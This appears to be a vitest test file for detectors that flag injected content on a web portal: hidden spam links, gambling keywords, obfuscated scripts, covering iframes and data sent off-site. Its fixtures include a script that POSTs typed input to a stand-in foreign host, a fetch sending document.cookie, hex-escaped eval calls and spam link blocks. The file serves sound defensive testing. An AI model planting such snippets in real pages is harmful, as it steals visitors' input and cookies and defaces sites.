import { describe, expect, test } from 'vitest';
import { refineBaseline } from '../../../../src/core/learned/baseline.ts';
import { learned, look, plain, portalWith, said } from '../../../support/detecting.ts';
import { portalPage } from '../../../support/portal-pages.ts';

const cuesOf = (detector: string, added: string, baseline: typeof plain | null = plain) =>
  said(detector, look(portalWith(added)), baseline).flatMap((finding) => finding.cues ?? []);

describe('links-added', () => {
  test('links with nothing to see: several to strangers, not one that an editor left behind', () => {
    const bare = (host: string, inside = '.') => `<a href="https://${host}.example/">${inside}</a>`;
    const all = [
      'links-added.learned.much-hidden',
      'links-added.learned.disguised',
      'links-added.learned.hidden-flock',
    ];
    expect(cuesOf('links-added', bare('a') + bare('b', '') + bare('c', '<span>&nbsp;</span>'))).toEqual(all);
    const dot = '<img src="/1.gif" width="1" height="1">';
    expect(cuesOf('links-added', bare('a', dot) + bare('b', dot) + bare('c', dot))).toEqual(all);
    expect(cuesOf('links-added', bare('a'))).not.toContain('links-added.learned.disguised');
    const icon = '<i class="icon"></i>';
    expect(cuesOf('links-added', bare('a', icon) + bare('b', icon) + bare('c', '<img src="/b.png">'))).toEqual([]);
  });

  test('icons without words lead to services that people know, not to four strangers', () => {
    const icon = (host: string) => `<a href="https://${host}.example/"><i class="icon"></i></a>`;
    expect(cuesOf('links-added', icon('a') + icon('b') + icon('c'))).toEqual([]);
    expect(cuesOf('links-added', icon('a') + icon('b') + icon('c') + icon('d'))).toContain(
      'links-added.learned.hidden-flock',
    );
  });
  test('links under a class or id that a sheet of the page puts out of sight, in no way that menus take', () => {
    const sheet = (rule: string) => `<style>.x { ${rule} } @media print { .y { left: -9999px } }</style>`;
    const link = (at: number) => `<a href="https://a.example/${at}">Tin ${at}</a>`;
    const three = [1, 2, 3].map(link).join('');
    const under = (rule: string, names: string) =>
      cuesOf('links-added', `${sheet(rule)}<div class="${names}">${three}</div>`);
    expect(under('position: absolute; left: -4000px', 'a x b')).toEqual([
      'links-added.learned.hidden',
      'links-added.learned.disguised',
      'links-added.learned.hidden-flock',
    ]);
    expect(under('display: none', 'x')).toEqual([]);
    expect(under('position: absolute; left: -4000px', 'xx')).toEqual([]);
    expect(under('color: red', 'x y')).toEqual([]);
    expect(cuesOf('links-added', `${sheet('clip: rect(0 0 0 0)')}<p class="x">${link(1)}</p>`)).not.toContain(
      'links-added.learned.hidden-flock',
    );
  });
  test('at first sight such a class may as well put a picture in place of words', () => {
    const icons = [1, 2, 3, 4, 5, 6].map((at) => `<a class="x" href="https://s${at}.example/">Bạn ${at}</a>`).join('');
    const sheet = '<style>.x { text-indent: -9999px; background: url(a.png) }</style>';
    expect(cuesOf('links-added', sheet + icons, null)).not.toContain('links-added.first-sight.disguised');
  });
  test('at first sight six strangers behind links that are out of sight are more than three', () => {
    const off = (count: number) =>
      Array.from({ length: count }, (_, i) => `<a href="https://s${i}.example/" style="left:-999px">s</a>`).join('');
    expect(cuesOf('links-added', off(5), null)).not.toContain('links-added.first-sight.disguised-flock');
    expect(cuesOf('links-added', off(6), null)).toContain('links-added.first-sight.disguised-flock');
  });

  const spam = (at: string) => `<a href="https://${at}.example/gacor">Slot gacor</a>`;
  test('hidden spam, spam in view and hidden links are told apart', () => {
    expect(cuesOf('links-added', `<div style="display:none">${spam('a')}</div>`)).toContain(
      'links-added.learned.hidden-spam',
    );
    expect(cuesOf('links-added', spam('a'))).toEqual(['links-added.learned.spam']);
    expect(cuesOf('links-added', spam('a') + spam('b') + spam('c'))).toEqual(['links-added.learned.much-spam']);
    expect(cuesOf('links-added', '<p hidden><a href="https://bo.example/">Bộ</a></p>')).toEqual([
      'links-added.learned.hidden',
    ]);
  });
  test('a plain new link to another host says nothing', () => {
    expect(cuesOf('links-added', '<a href="https://bo-noi-vu.example/">Bộ Nội vụ</a>')).toEqual([]);
  });
  test('hosts that the page linked to when it was learned are its own, until one of them hides', () => {
    const linking = learned([look(portalWith(spam('a'))), look(portalWith(spam('a')))]);
    expect(cuesOf('links-added', spam('a'), linking)).toEqual([]);
    expect(cuesOf('links-added', `<div hidden>${spam('a')}</div>`, linking)).toContain(
      'links-added.learned.hidden-spam',
    );
  });
  test('a known host in a slide that moves out of sight says nothing', () => {
    const banner = (at: string) => `<a href="https://${at}.example/">Bộ</a>`;
    const shown = banner('a') + banner('b') + banner('c');
    const showing = learned([look(portalWith(shown)), look(portalWith(shown))]);
    expect(cuesOf('links-added', `<div style="display:none">${shown}</div>`, showing)).toEqual([]);
  });
  test('spam behind thousands of foreign links is found', () => {
    const flood = Array.from({ length: 6_000 }, (_, i) => `<a href="https://s${i}.example/">x</a>`).join('');
    expect(cuesOf('links-added', `${flood}<p hidden>${spam('z')}</p>`)).toContain('links-added.learned.hidden-spam');
  });
  test('a later clean look teaches no host', () => {
    const bare = look(portalWith('<p>Tin mới</p><a href="https://la.example/">Lạ</a>'));
    const refined = refineBaseline(plain, bare, 2);
    expect(refined?.content.received?.hosts.links).toEqual(plain.content.received?.hosts.links);
  });
  test('the fingerprint names the hosts, not the words', () => {
    const [a] = said('links-added', look(portalWith(spam('a'))), plain);
    const [b] = said('links-added', look(portalWith(spam('a').replace('gacor"', 'togel"'))), plain);
    const [c] = said('links-added', look(portalWith(spam('z'))), plain);
    expect(a?.fingerprint).toBe(b?.fingerprint);
    expect(a?.fingerprint).not.toBe(c?.fingerprint);
  });
});

describe('scripts-added', () => {
  test('a script by a new host is of the kind that a redesign brings; one with a random name is not', () => {
    expect(cuesOf('scripts-added', '<script src="https://dem.example/dem.js"></script>')).toEqual([
      'scripts-added.host',
    ]);
    expect(cuesOf('scripts-added', '<script src="https://x.example/jWq7TAonomVveWlRk4cU"></script>')).toEqual([
      'scripts-added.host',
      'scripts-added.learned.odd-path',
    ]);
  });
  test('a known script with other values is known; with other code it is new', () => {
    const start = (values: string) => `<script>khoiTao(${values});</script>`;
    const starting = learned([look(portalWith(start('{"a":"1"}'))), look(portalWith(start('{"a":"2"}')))]);
    expect(cuesOf('scripts-added', start('{"a":"99","b":"x"}'), starting)).toEqual([]);
    expect(cuesOf('scripts-added', `<script>khoiTao({});eval(x)</script>`, starting)).toContain('scripts-added.eval');
  });
  test('a bad script is not hidden by plain ones, of its own host or of others', () => {
    const odd = '<script src="https://x.example/jWq7TAonomVveWlRk4cU"></script>';
    const plain = (at: string) => `<script src="https://${at}.example/dem.js"></script>`;
    const crowd = ['a', 'b', 'c', 'd'].map(plain).join('');
    for (const added of [odd + plain('x'), plain('x') + odd, crowd + odd]) {
      expect(cuesOf('scripts-added', added), added).toContain('scripts-added.learned.odd-path');
    }
  });
  test('at first sight only what hides counts', () => {
    expect(cuesOf('scripts-added', '<script>eval(atob(x))</script>', null)).toEqual([]);
    expect(cuesOf('scripts-added', '<script>var a="\\x65\\x76\\x61\\x6c"</script>', null)).toEqual([
      'scripts-added.escapes',
    ]);
  });
});

describe('spam-words', () => {
  test('one term is nothing, several are, and close together more', () => {
    expect(cuesOf('spam-words', '<p>Một bài về casino ở nước ngoài</p>')).toEqual([]);
    expect(cuesOf('spam-words', '<p>nhà cái tài xỉu slot gacor lô đề</p>')).toEqual([
      'spam-words.learned.much',
      'spam-words.learned.dense',
    ]);
  });
  test('words that were learned are not added', () => {
    const text = '<p>nhà cái tài xỉu slot gacor lô đề</p>';
    expect(cuesOf('spam-words', text, learned([look(portalWith(text)), look(portalWith(text))]))).toEqual([]);
  });
});

describe('markup-added', () => {
  const foreign = (count: number) =>
    Array.from(
      { length: count },
      (_, i) =>
        `<div class="x-${'abcdefghij'[i % 10]}${'abcdefghij'[Math.floor(i / 10)]}"><p class="y"><b>Chữ ${i}</b></p></div>`,
    ).join('');
  test('grades grow with the shapes of markup that are new', () => {
    expect(cuesOf('markup-added', foreign(3))).toEqual([]);
    expect(cuesOf('markup-added', foreign(9))).toEqual(['markup-added.some']);
    expect(cuesOf('markup-added', foreign(40))).toEqual(['markup-added.flood']);
  });
  test('a page whose own content went was rebuilt, which is another matter', () => {
    const rebuilt = look(
      portalPage()
        .replace(/<main>[\s\S]*<\/main>/, '')
        .replace('</body>', `${foreign(40)}</body>`),
    );
    expect(said('markup-added', rebuilt, plain).flatMap((finding) => finding.cues ?? [])).not.toContain(
      'markup-added.flood',
    );
  });
});

test('code-in-text, hidden-text and frames-added name what they saw', () => {
  expect(
    cuesOf(
      'code-in-text',
      `<div>${'function a(b){var c=document.createElement("x");return c[0]+(b&amp;&amp;b[1]);};'.repeat(3)}</div>`,
    ),
  ).toContain('code-in-text.learned');
  expect(cuesOf('hidden-text', `<div hidden>${'xkjq9zvbnw'.repeat(60)}</div>`)).toEqual(['hidden-text.learned']);
  expect(cuesOf('frames-added', '<iframe src="https://la.example/"></iframe>')).toEqual(['frames-added.learned.plain']);
  expect(cuesOf('frames-added', '<iframe src="https://la.example/" style="position:fixed;inset:0"></iframe>')).toEqual([
    'frames-added.learned.covering',
  ]);
});

test('a frame that covers the page is not hidden by plain ones, and able code not by harmless code', () => {
  const frame = (at: string, style = '') => `<iframe src="https://${at}.example/" style="${style}"></iframe>`;
  const covering = frame('la', 'position:fixed;inset:0');
  const crowd = Array.from({ length: 30 }, (_, i) => frame(`s${i}`)).join('');
  for (const added of [frame('la') + covering, crowd + covering]) {
    expect(cuesOf('frames-added', added)).toContain('frames-added.learned.covering');
  }
  const harmless = 'function a(b){var c=document.body;return c[0]+(b&amp;&amp;b[1]);};'.repeat(3);
  const able = `var a="\\x65\\x76\\x61\\x6c";function b(c){return window[a](c[0]);};`.repeat(3);
  expect(cuesOf('code-in-text', `<div>${harmless}</div><p>${able}</p>`)).toContain('code-in-text.able');
});

test('a lesson in programming is no able code at first sight, and is where it was not before', () => {
  const lesson =
    '<pre>fetch(url, { method: "POST", body: unescape(document.cookie) }).then(function (r) { return r; });</pre>';
  expect(cuesOf('code-in-text', lesson, null)).toEqual(['code-in-text.first-sight']);
  expect(cuesOf('code-in-text', lesson)).toEqual(['code-in-text.learned', 'code-in-text.able']);
});

test('a bare page is one at first sight only, and a page that scripts will fill is none', () => {
  expect(said('bare-page', look('Xin chào'), null)).toHaveLength(1);
  expect(said('bare-page', look('Xin chào'), plain)).toEqual([]);
  expect(said('bare-page', look('<div id="app"></div><script src="/app.js"></script>x'), null)).toEqual([]);
});

test('head-changed speaks only of what was the same on every look', () => {
  const page = (description: string) =>
    portalPage().replace('<title>', `<meta name="description" content="${description}"><title>`);
  const still = learned([look(page('Tin tức')), look(page('Tin tức'))]);
  const moving = learned([look(page('Tin một')), look(page('Tin hai'))]);
  expect(said('head-changed', look(page('Khác')), still)).toHaveLength(1);
  expect(said('head-changed', look(page('Khác')), moving)).toEqual([]);
});

describe('spam-words in news of crime', () => {
  const news = '<p>Công an xã cảnh báo nhà cái, tài xỉu và lô đề trên mạng.</p>';
  const stranger = '<a href="https://la.example/">xem</a>';
  test('what the police say of betting is no offer, as long as it leads to no stranger', () => {
    expect(cuesOf('spam-words', news)).toEqual([]);
    expect(cuesOf('spam-words', news + stranger)).not.toEqual([]);
    expect(cuesOf('spam-words', news.replace('Công an', 'Sòng'))).not.toEqual([]);
  });
  test('an offer beside such news counts in full', () => {
    const offer = '<p>Nhà cái, tài xỉu, slot gacor, lô đề, casino: vào ngay.</p>';
    expect(cuesOf('spam-words', news + offer)).toEqual(cuesOf('spam-words', offer));
  });
});

describe('data-sent', () => {
  const sent = (to: string) =>
    said(
      'data-sent',
      look(
        portalWith(
          `<script>var i=document.querySelector('input');i.onchange=function(){fetch(${to},{method:'POST',body:i.value})}</script>`,
        ),
      ),
      plain,
    );
  test('to an unknown or foreign address is new; to the own server it is what a rebuilt form does', () => {
    expect(sent("'https://la.example/'")[0]?.cues).toEqual(['data-sent.learned.typed-away']);
    for (const own of ["'/gui'", 'atob(x)']) expect(sent(own)[0]?.cues).toEqual(['data-sent.learned.typed']);
  });
});
